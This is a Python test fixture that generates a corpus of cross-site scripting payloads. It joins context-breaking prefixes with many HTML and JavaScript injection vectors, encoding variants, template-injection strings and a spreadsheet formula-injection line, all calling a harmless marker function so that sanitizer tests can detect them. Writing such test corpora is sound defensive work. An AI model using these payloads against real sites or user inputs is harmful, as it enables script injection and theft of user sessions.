"""T-S1: what somebody types who wants another's browser to run it. Each of them would say so.

Every vector carries the attribute `zq` and calls `zqhit`: where one has become part of a page, the
page has an element, an attribute, an address or a script of that name. As words they are harmless.
"""

from __future__ import annotations

from itertools import product

# What closes the place where the words stand: text, attributes, raw text, comments, CDATA, JSON.
_ENDS = ("", '">', "'>", "\">'><", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>")
_VECTORS = (
    "<script zq>zqhit(1)</script>",
    "<ScRiPt zq src=//zqhit.example></ScRiPt>",
    "<img zq src=x onerror=zqhit(1)>",
    "<IMG/zq/src=x/onerror=zqhit(1)//",
    "<svg zq onload=zqhit(1)>",
    "<svg zq><animate zq onbegin=zqhit(1) attributeName=x dur=1s>",
    "<body zq onload=zqhit(1)>",
    "<details zq open ontoggle=zqhit(1)>",
    "<input zq autofocus onfocus=zqhit(1)>",
    "<iframe zq srcdoc='<script>parent.zqhit(1)</script>'>",
    "<a zq href=javascript:zqhit(1)>open</a>",
    "<a zq href='java\tscript:zqhit(1)'>open</a>",
    "<form zq action=javascript:zqhit(1)><button zq autofocus>open</button>",
    "<object zq data=javascript:zqhit(1)>",
    "<base zq href=//zqhit.example>",
    "<meta zq http-equiv=refresh content='0;url=javascript:zqhit(1)'>",
    "<math zq><mtext></form><form><mglyph><style></math><img zq src onerror=zqhit(1)>",
    "<template zq shadowrootmode=open><img zq src=x onerror=zqhit(1)></template>",
    "<marquee zq onstart=zqhit(1)>",
    "<zqhit zq onfocusin=zqhit(1) tabindex=1 autofocus>",
)
_OTHERS = (
    '" zq onfocus=zqhit(1) autofocus x="',
    "' zq onmouseover=zqhit(1) x='",
    "` zq onmouseover=zqhit(1) x=`",
    "\" zq style=animation-name:x onanimationstart=zqhit(1) x='",
    "javascript:zqhit(1)//",
    "data:text/html,<script zq>zqhit(1)</script>",
    "{{ zqhit }}{% include 'zq' %}{{ '<img zq>'|safe }}",
    "${zqhit(1)}#{zqhit(1)}",
    "'-zqhit(1)-'",
    '";zqhit(1);//',
    "\\u003cimg zq src=x onerror=zqhit(1)\\u003e",
    "&lt;img zq src=x onerror=zqhit(1)&gt;",
    "%3Cimg zq src=x onerror=zqhit(1)%3E",
    "＜img zq src=x onerror=zqhit(1)＞",
    "\u2028<img zq src=x onerror=zqhit(1)>\u202e",
    '[open](javascript:zqhit(1)) ![x](x"onerror="zqhit(1))',
    'https://example.org/"zq onmouseover="zqhit(1)',
    "=cmd|'/c zqhit'!A1",
)
CORPUS = (*("".join(one) for one in product(_ENDS, _VECTORS)), *_OTHERS)
# Every way out at once, for fields that take little.
SHORT = "\"'><img zq src=x onerror=zqhit(1)>"
WHOLE = f"zq\"'></title></textarea></script>--><svg zq onload=zqhit(1)>{SHORT}"


def chunks(most: int) -> list[str]:
    """The whole corpus in texts of at most so many characters."""
    found = [""]
    for one in CORPUS:
        if len(found[-1]) + len(one) + 1 > most:
            found.append("")
        found[-1] += f"{one}\n"
    return [text.strip() for text in found]
